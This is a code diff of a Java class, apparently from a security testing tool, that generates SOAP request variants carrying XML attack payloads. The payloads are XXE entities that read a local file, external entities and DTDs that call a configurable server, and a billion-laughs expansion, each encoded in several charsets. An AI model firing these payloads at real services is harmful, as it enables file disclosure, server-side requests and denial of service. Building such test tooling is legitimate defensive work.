@@ -6,6 +6,8 @@ import java.nio.charset.Charset;
 import java.nio.charset.StandardCharsets;
 import java.util.ArrayList;
 import java.util.List;
+import java.util.Map;
+import java.util.TreeSet;
 
 /** Attacks in SOAP envelopes. */
 final class SoapAttacks {
@@ -30,21 +32,24 @@ final class SoapAttacks {
         SoapAttacks attacks = new SoapAttacks(scene);
         return List.of(
                 new Attack("soap-doctype", "DOCTYPE and entities in the envelope and in its argument", false,
-                        attacks.doctypes()),
+                        attacks::doctypes),
                 new Attack("soap-structure", "arrays, references, headers, attachments, operations", false,
-                        attacks.structures()));
+                        attacks::structures));
     }
 
     private List<Variant> doctypes() {
         List<Variant> variants = new ArrayList<>();
-        for (String doctype : List.of("<!DOCTYPE x>", "<!DOCTYPE x [<!ENTITY e 'x'>]>",
-                "<!DOCTYPE x [<!ENTITY e SYSTEM '" + file + "'>]>", "<!DOCTYPE x [<!ENTITY e SYSTEM '" + server + "'>]>",
-                "<!DOCTYPE x SYSTEM '" + server + "x.dtd'>", "<!DOCTYPE x [<!ENTITY % p SYSTEM '" + server + "'>%p;]>",
-                "<!DOCTYPE x [<!ENTITY a 'ha'><!ENTITY b '" + "&a;".repeat(1_000) + "'><!ENTITY e '" + "&b;".repeat(1_000)
-                        + "'>]>")) {
+        Map<String, String> doctypes = Map.of("empty", "<!DOCTYPE x>", "internal entity", "<!DOCTYPE x [<!ENTITY e 'x'>]>",
+                "external entity of a file", "<!DOCTYPE x [<!ENTITY e SYSTEM '" + file + "'>]>",
+                "external entity of the network", "<!DOCTYPE x [<!ENTITY e SYSTEM '" + server + "'>]>",
+                "external subset", "<!DOCTYPE x SYSTEM '" + server + "x.dtd'>",
+                "parameter entity", "<!DOCTYPE x [<!ENTITY % p SYSTEM '" + server + "'>%p;]>",
+                "laughs", "<!DOCTYPE x [<!ENTITY a 'ha'><!ENTITY b '" + "&a;".repeat(1_000) + "'><!ENTITY e '"
+                        + "&b;".repeat(1_000) + "'>]>");
+        for (String name : new TreeSet<>(doctypes.keySet())) {
+            String doctype = doctypes.get(name);
             String entity = doctype.contains("ENTITY e ") ? "&e;" : "";
             String inner = doctype + Target.listXml(entity, "<CardNo>1</CardNo>");
-            String name = XmlAttacks.brief(doctype.substring(10)) + (doctype.contains(server) ? " network" : "");
             for (String charset : List.of("UTF-8", "GBK", "UTF-16LE", "UTF-16BE", "ISO-8859-1", "GB18030")) {
                 variants.add(soap(name + " around the envelope, " + charset, "text/xml; charset=" + charset,
                         Target.encode(doctype + Scene.soapXml("<OPDRechargeList><arg0>" + entity + "</arg0></OPDRechargeList>"),
